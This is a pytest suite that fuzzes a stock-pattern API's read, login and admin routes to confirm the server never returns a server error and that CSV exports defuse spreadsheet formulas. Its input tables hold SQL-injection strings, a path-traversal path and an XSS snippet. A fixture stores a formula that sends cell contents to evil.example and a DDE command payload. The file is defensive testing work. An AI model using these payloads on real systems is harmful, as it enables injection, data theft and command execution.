"""Fuzzing the read API: schemathesis from the OpenAPI document, plus a table of nasty inputs.

Whatever arrives, the answer is a 2xx or a 4xx in the error envelope, never a 5xx.

schemathesis runs against a real hypercorn server on the test loop; its cases are sent with
``requests`` from a worker thread so the server keeps serving. Budget: ``MAX_EXAMPLES`` positive
and as many negative (schema-violating) examples per operation, no deadline, derandomised so a
failure reproduces.
"""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import re
import urllib.parse
from collections.abc import AsyncIterator
from typing import Any

import aiohttp
import hypothesis
import pytest
import requests
import schemathesis
from hypothesis import HealthCheck, Phase
from schemathesis import GenerationMode
from schemathesis.checks import not_a_server_error
from schemathesis.specs.openapi.checks import (
    content_type_conformance,
    response_schema_conformance,
    status_code_conformance,
)

from tests.support.served import ServedApp

MAX_EXAMPLES = 30

USER_OPERATIONS: list[tuple[str, str]] = [
    ("GET", "/api/patterns"),
    ("GET", "/api/patterns/{symbol}"),
    ("GET", "/api/patterns/tiers/{tier}"),
    ("GET", "/api/pattern-definitions"),
    ("GET", "/api/indicators"),
    ("GET", "/api/indicators/{symbol}"),
    ("GET", "/api/symbols"),
    ("GET", "/api/symbols/{symbol}"),
    ("GET", "/api/symbols/{symbol}/ohlcv"),
    ("GET", "/api/user/watchlist"),
    ("PUT", "/api/user/watchlist"),
    ("GET", "/api/user/settings"),
    ("PUT", "/api/user/settings"),
]
ADMIN_OPERATIONS: list[tuple[str, str]] = [
    ("GET", "/api/admin/connections"),
    ("GET", "/api/admin/errors"),
]

CHECKS = [
    not_a_server_error,
    status_code_conformance,
    content_type_conformance,
    response_schema_conformance,
]


def _fuzz(
    schema: Any, operations: list[tuple[str, str]], base_url: str, headers: dict[str, str]
) -> dict[str, int]:
    """Run every operation's positive and negative examples; returns requests per operation."""
    sent: dict[str, int] = {}
    with requests.Session() as session:
        session.headers.update(headers)
        run_examples = _runner(base_url, session, sent)
        for method, path in operations:
            operation = schema[path][method]
            for mode in (GenerationMode.POSITIVE, GenerationMode.NEGATIVE):
                key = f"{method} {path} {mode.value}"
                sent[key] = 0
                run_examples(operation.as_strategy(generation_mode=mode), key)
    return sent


def _runner(base_url: str, session: requests.Session, sent: dict[str, int]) -> Any:
    def run_examples(strategy: Any, key: str) -> None:
        @hypothesis.settings(
            max_examples=MAX_EXAMPLES,
            deadline=None,
            database=None,
            derandomize=True,
            phases=[Phase.explicit, Phase.generate],
            suppress_health_check=list(HealthCheck),
        )
        @hypothesis.given(case=strategy)
        def run(case: Any) -> None:
            response = case.call(base_url=base_url, session=session, timeout=10)
            sent[key] += 1
            case.validate_response(response, checks=CHECKS)

        run()

    return run_examples


async def _document(served: ServedApp, headers: dict[str, str]) -> dict[str, Any]:
    async with (
        aiohttp.ClientSession() as session,
        session.get(f"{served.url}/openapi.json", headers=headers) as response,
    ):
        assert response.status == 200
        document: dict[str, Any] = await response.json()
        return document


@pytest.mark.fuzz
@pytest.mark.timeout(180)
async def test_schemathesis_finds_no_server_error(
    served: ServedApp, auth_headers: dict[str, str], admin_headers: dict[str, str]
) -> None:
    document = await _document(served, auth_headers)
    schema = schemathesis.openapi.from_dict(document)
    sent = await asyncio.to_thread(_fuzz, schema, USER_OPERATIONS, served.url, auth_headers)
    sent |= await asyncio.to_thread(_fuzz, schema, ADMIN_OPERATIONS, served.url, admin_headers)
    assert len(sent) == 2 * (len(USER_OPERATIONS) + len(ADMIN_OPERATIONS))
    assert all(count > 0 for count in sent.values()), sent


# --- the explicit table ------------------------------------------------------------------------

NASTY = [
    "",
    " ",
    "-1",
    "0",
    "99999999999999999999999",
    "9223372036854775808",
    "1e309",
    "NaN",
    "-inf",
    "true",
    "null",
    "[]",
    "{}",
    "' OR 1=1--",
    "'; DROP TABLE symbols; --",
    "AAPL' UNION SELECT password_hash FROM users--",
    "%",
    "_",
    "\\",
    "\x00",
    "\x1b[31m",
    "\x7f",
    "\x85",
    "\u202e",
    "😀",
    "ÄÖÜß",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "A" * 5000,
    "2024-13-45T99:99:99",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00",
]
# Raw (already percent-encoded) values the above cannot express: invalid UTF-8, a lone
# surrogate's bytes, an encoded NUL.
RAW = ["%ff%fe", "%ED%A0%80", "%00", "%C0%AE", "a%2Cb"]

QUERY_PARAMETERS: dict[str, list[str]] = {
    "/api/patterns": [
        "tier",
        "symbols",
        "pattern",
        "confidence_min",
        "since",
        "until",
        "limit",
        "cursor",
    ],
    "/api/patterns/AAPL": ["tier", "pattern", "confidence_min", "since", "until", "cursor"],
    "/api/patterns/tiers/daily": ["symbols", "pattern", "confidence_min", "limit", "cursor"],
    "/api/pattern-definitions": ["enabled", "category"],
    "/api/indicators": ["symbols", "source"],
    "/api/indicators/AAPL": ["source"],
    "/api/symbols": ["q", "sector", "active", "limit", "cursor"],
    "/api/symbols/AAPL/ohlcv": ["start", "end", "limit"],
    "/api/admin/connections": ["group_by", "user_id", "node_id", "limit", "cursor"],
    "/api/admin/errors": ["source", "reason", "since", "limit", "cursor"],
}
PATH_TEMPLATES = [
    "/api/patterns/{}",
    "/api/patterns/tiers/{}",
    "/api/indicators/{}",
    "/api/symbols/{}",
    "/api/symbols/{}/ohlcv",
]


async def _check(client: Any, url: str, headers: dict[str, str], **kwargs: Any) -> int:
    method = kwargs.pop("method", "GET")
    response = await client.open(url, method=method, headers=headers, **kwargs)
    status: int = response.status_code
    assert status < 500, (url, status, await response.get_data(as_text=True))
    if status >= 400:
        body = await response.get_json()
        assert body["status"] == "error" and body["code"] and body["message"], (url, body)
        assert "Traceback" not in body["message"]
    return status


async def test_nasty_query_parameters(
    client: Any, auth_headers: dict[str, str], admin_headers: dict[str, str]
) -> None:
    statuses: dict[int, int] = {}
    for path, names in QUERY_PARAMETERS.items():
        headers = admin_headers if path.startswith("/api/admin") else auth_headers
        for name in names:
            values = [urllib.parse.quote(value, safe="") for value in NASTY] + RAW
            for value in values:
                status = await _check(client, f"{path}?{name}={value}", headers)
                statuses[status] = statuses.get(status, 0) + 1
            # repeated parameter
            await _check(client, f"{path}?{name}=1&{name}=2", headers)
    assert statuses.get(400, 0) > 500  # most of the table is refused, never with a 5xx


async def test_nasty_path_segments(client: Any, auth_headers: dict[str, str]) -> None:
    for template in PATH_TEMPLATES:
        for value in [urllib.parse.quote(value, safe="") for value in NASTY if value] + RAW:
            status = await _check(client, template.format(value), auth_headers)
            assert status in (400, 404), (template, value, status)


@pytest.mark.parametrize(
    ("path", "query", "code"),
    [
        ("/api/patterns", "limit=-1", "validation_error"),
        ("/api/patterns", "limit=0", "validation_error"),
        ("/api/patterns", "limit=1000000", "validation_error"),
        ("/api/patterns", "limit=ten", "validation_error"),
        ("/api/patterns", "confidence_min=2", "validation_error"),
        ("/api/patterns", "since=yesterday", "validation_error"),
        ("/api/patterns", "symbols=%27%20OR%201%3D1--", "validation_error"),
        ("/api/patterns", "pattern=%00", "validation_error"),
        ("/api/patterns", "tier=%27%20OR%201%3D1--", "unknown_tier"),
        ("/api/patterns", "cursor=%27%20OR%201%3D1--", "invalid_cursor"),
        ("/api/patterns/AAPL", "cursor=eyJhIjoxfQ", "invalid_cursor"),
        ("/api/patterns/%27%20OR%201%3D1--", "", "invalid_symbol"),
        ("/api/symbols", "limit=501", "validation_error"),
        ("/api/symbols", "q=" + "x" * 65, "validation_error"),
        ("/api/symbols", "cursor=AAAA", "invalid_cursor"),
        ("/api/symbols/AAPL/ohlcv", "limit=2001", "validation_error"),
        ("/api/indicators", "symbols=" + ",".join(["AAPL"] * 2000), "validation_error"),
    ],
)
async def test_nasty_inputs_get_the_right_400(
    client: Any, auth_headers: dict[str, str], path: str, query: str, code: str
) -> None:
    response = await client.get(f"{path}?{query}" if query else path, headers=auth_headers)
    assert response.status_code == (404 if code == "unknown_tier" else 400)
    assert (await response.get_json())["code"] == code


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"null",
        b"[]",
        b'"AAPL"',
        b"{",
        b'{"symbols": null}',
        b'{"symbols": [null]}',
        b'{"symbols": ["\\u0000"]}',
        b'{"symbols": ["\\ud800"]}',
        b'{"symbols": [1e400]}',
        b'{"symbols": ["AAPL"], "symbols": 5}',
        b'{"theme": "dark", "min_confidence": NaN}',
        b'{"theme": ["dark"]}',
        b'{"feed_limit": 123456789012345678901234567890}',
        b"\xff\xfe",
        b'{"symbols": [' + b'"AAPL",' * 5000 + b'"AAPL"]}',
    ],
)
async def test_nasty_bodies(client: Any, auth_headers: dict[str, str], body: bytes) -> None:
    headers = {**auth_headers, "Content-Type": "application/json"}
    for path in ("/api/user/watchlist", "/api/user/settings"):
        status = await _check(client, path, headers, method="PUT", data=body)
        assert status == 400, (path, body[:40])


# --- control characters and out-of-range numbers in every parameter -------------------------------

CONTROL = ["\x00", "a\x00b", "\x1b[31m", "a\nb", "\r", "\x7f", "\x85", "\u009b2J"]
OUT_OF_RANGE = [2**63, -(2**63) - 1, 10**30]
HOSTILE: list[Any] = [*CONTROL, *OUT_OF_RANGE]

JSON_BODIES: list[tuple[str, str, dict[str, Any], str]] = [
    # method, path, a valid body, whose fields are spoiled one at a time (user or admin)
    ("POST", "/api/auth/login", {"username": "nobody", "password": "x" * 12}, "anon"),
    ("POST", "/api/auth/tokens", {"name": "fuzz", "expires_in_days": 1}, "user"),
    ("PUT", "/api/user/watchlist", {"symbols": ["AAPL"]}, "user"),
    (
        "PUT",
        "/api/user/settings",
        {"theme": "dark", "min_confidence": 0.5, "feed_limit": 10},
        "user",
    ),
    ("POST", "/api/admin/users", {"username": "fuzzuser", "password": "x" * 12}, "admin"),
    (
        "PATCH",
        "/api/admin/users/1",
        {"role": "user", "active": True, "password": "x" * 12},
        "admin",
    ),
]
FORM_FIELDS = ["username", "password", "next", "remember"]
ID_PATHS = [
    ("DELETE", "/api/auth/tokens/{}", "user"),
    ("PATCH", "/api/admin/users/{}", "admin"),
    ("GET", "/api/streaming/history/{}", "user"),
]
PAGE_PATHS = ["/symbols/{}", "/static/{}", "/static/vendor/{}"]
QUERY_EXTRA: dict[str, list[str]] = {
    "/api/admin/users": ["q", "limit", "cursor"],
    "/api/streaming/history/AAPL": ["kind", "limit", "since"],
    "/login": ["next"],
}


def _spoiled(body: dict[str, Any]) -> list[tuple[str, dict[str, Any]]]:
    cases = []
    for name, valid in body.items():
        for value in HOSTILE:
            spoiled = [value] if isinstance(valid, list) else value
            cases.append((name, {**body, name: spoiled}))
    return cases


async def test_control_characters_and_huge_numbers_in_every_body_field(
    client: Any, auth_headers: dict[str, str], admin_headers: dict[str, str]
) -> None:
    headers_for = {"anon": {}, "user": auth_headers, "admin": admin_headers}
    # No admin change may succeed here: PATCH targets an id no account has.
    for method, path, body, who in JSON_BODIES:
        path = path.replace("/users/1", f"/users/{2**62}")
        for name, spoiled in _spoiled(body):
            status = await _check(client, path, headers_for[who], method=method, json=spoiled)
            assert status in (400, 404, 429), (path, name, spoiled, status)
            if status == 400 and isinstance(spoiled[name], str):
                message = (
                    await (
                        await client.open(
                            path, method=method, headers=headers_for[who], json=spoiled
                        )
                    ).get_json()
                )["message"]
                assert message.startswith(name), (path, name, message)


async def test_control_characters_in_every_form_field(client: Any) -> None:
    valid = {"username": "nobody", "password": "x" * 12, "next": "/", "remember": "1"}
    for name in FORM_FIELDS:
        for value in CONTROL:
            form = urllib.parse.urlencode({**valid, name: value})
            headers = {"Content-Type": "application/x-www-form-urlencoded"}
            status = await _check(client, "/login", headers, method="POST", data=form)
            assert status == 400, (name, value, status)


async def test_control_characters_and_huge_ids_in_every_path_and_query(
    client: Any, auth_headers: dict[str, str], admin_headers: dict[str, str]
) -> None:
    headers_for = {"user": auth_headers, "admin": admin_headers}
    values = [urllib.parse.quote(str(v), safe="") for v in HOSTILE]
    for method, template, who in ID_PATHS:
        for value in values:
            kwargs: dict[str, Any] = {"json": {"active": True}} if method == "PATCH" else {}
            status = await _check(
                client, template.format(value), headers_for[who], method=method, **kwargs
            )
            assert status in (400, 404), (template, value, status)
    for template in PAGE_PATHS:
        for value in values:
            response = await client.get(template.format(value), headers=auth_headers)
            assert response.status_code in (400, 404), (template, value)
    for path, names in QUERY_EXTRA.items():
        headers = admin_headers if path.startswith("/api/admin") else auth_headers
        for name in names:
            for value in values:
                response = await client.get(f"{path}?{name}={value}", headers=headers)
                assert response.status_code < 500, (path, name, value)
                if value in [urllib.parse.quote(v, safe="") for v in CONTROL]:
                    assert response.status_code == 400, (path, name, value)


# --- nesting, non-ASCII digits and spreadsheet formulas, on every route -----------------------

NESTED = "[" * 990 + "]" * 990
# "18" in digits int() accepts but an id must not: fullwidth, Devanagari, Arabic-Indic, Persian.
FOREIGN_DIGITS = ["\uff11\uff18", "\u0967\u096e", "\u0661\u0668", "\u06f1\u06f8"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _routes(app: Any) -> list[tuple[str, str, Any]]:
    """(method, rule, werkzeug rule) for every route of the app (HEAD and OPTIONS aside)."""
    return [
        (method, rule.rule, rule)
        for rule in app.url_map.iter_rules()
        for method in sorted(rule.methods or ())
        if method not in ("HEAD", "OPTIONS")
    ]


def _filled(rule: Any, ints: str = str(2**62)) -> str:
    """The rule's path with every argument filled in (ints with ``ints``, others "AAPL")."""
    path = rule.rule
    for name, converter in rule._converters.items():
        value = ints if converter.__class__.__name__ == "BigintConverter" else "AAPL"
        path = re.sub(rf"<[^>]*:?{name}>", urllib.parse.quote(value, safe=""), path)
    return str(path)


async def test_deeply_nested_json_is_a_400_on_every_route(
    app: Any, client: Any, auth_headers: dict[str, str]
) -> None:
    """Before login, routing or any handler, on every route and method that takes a body."""
    checked = 0
    for method, _, rule in _routes(app):
        if method not in ("POST", "PUT", "PATCH", "DELETE"):
            continue
        for headers in ({}, auth_headers):
            response = await client.open(
                _filled(rule),
                method=method,
                data=NESTED,
                headers={**headers, "Content-Type": "application/json"},
            )
            assert response.status_code == 400, (method, rule.rule, response.status_code)
            assert (await response.get_json())["code"] == "validation_error"
            checked += 1
    assert checked >= 20


async def test_non_ascii_digits_name_no_id_on_every_route(
    app: Any, client: Any, auth_headers: dict[str, str], admin_headers: dict[str, str]
) -> None:
    checked = 0
    for method, path, rule in _routes(app):
        if not any(c.__class__.__name__ == "BigintConverter" for c in rule._converters.values()):
            continue
        headers = admin_headers if path.startswith("/api/admin") else auth_headers
        for digits in FOREIGN_DIGITS:
            kwargs: dict[str, Any] = {"json": {}} if method in ("PATCH", "PUT", "POST") else {}
            status = await _check(client, _filled(rule, digits), headers, method=method, **kwargs)
            assert status == 404, (method, path, digits, status)
            checked += 1
    assert checked >= 8
    for path in ("/api/patterns", "/api/symbols", "/api/user/alerts"):
        for digits in FOREIGN_DIGITS:
            query = urllib.parse.quote(digits, safe="")
            status = await _check(client, f"{path}?limit={query}", auth_headers)
            assert status == 400, (path, digits, status)


@pytest.fixture(name="formula_rows")
async def _formula_rows(conn: Any) -> AsyncIterator[str]:
    """A producer symbol, its detection and indicator, whose texts are spreadsheet formulas."""
    import datetime as dt

    symbol = "ZZFUZZ"
    now = dt.datetime.now(dt.UTC) - dt.timedelta(minutes=5)
    await conn.execute(
        "INSERT INTO symbols (symbol, name, sector, industry, exchange) VALUES ($1, $2, $3, $4, $5)",
        symbol,
        '=HYPERLINK("http://evil.example/?x="&A1,"x")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
    )
    for table in ("daily_patterns", "intraday_patterns"):
        await conn.execute(
            f"INSERT INTO {table} (symbol, pattern_type, confidence, detection_timestamp)"
            " VALUES ($1, $2, 0.99, $3)",
            symbol,
            "=1+1",
            now,
        )
    try:
        yield symbol
    finally:
        for table in ("daily_patterns", "intraday_patterns"):
            await conn.execute(f"DELETE FROM {table} WHERE symbol = $1", symbol)
        await conn.execute("DELETE FROM symbols WHERE symbol = $1", symbol)


async def test_no_csv_export_hands_a_spreadsheet_a_formula(
    client: Any, auth_headers: dict[str, str], formula_rows: str
) -> None:
    """Every route with ``format=csv`` (from the API document), with producer rows made of
    formulas: no text cell starts like a formula; numbers stay numbers."""
    document = await (await client.get("/openapi.json", headers=auth_headers)).get_json()
    exports = [
        path
        for path, item in document["paths"].items()
        if any(p.get("name") == "format" for p in item.get("get", {}).get("parameters", []))
    ]
    assert len(exports) >= 4, exports
    seen_symbol = False
    for path in exports:
        url = path.replace("{symbol}", formula_rows).replace("{tier}", "daily")
        if "{" in url:
            # An export of one stored object (a job's trades): its rows are not producer text,
            # and it goes through the same writer (tests/test_export.py).
            continue
        response = await client.get(url, headers=auth_headers, query_string={"format": "csv"})
        assert response.status_code == 200, (path, await response.get_data(as_text=True))
        for row in csv.reader(io.StringIO(await response.get_data(as_text=True))):
            seen_symbol = seen_symbol or formula_rows in row
            for cell in row:
                if cell.startswith(FORMULA_STARTS):
                    with contextlib.suppress(ValueError):
                        float(cell)
                        continue
                    pytest.fail(f"{path}: formula cell {cell!r}")
    assert seen_symbol
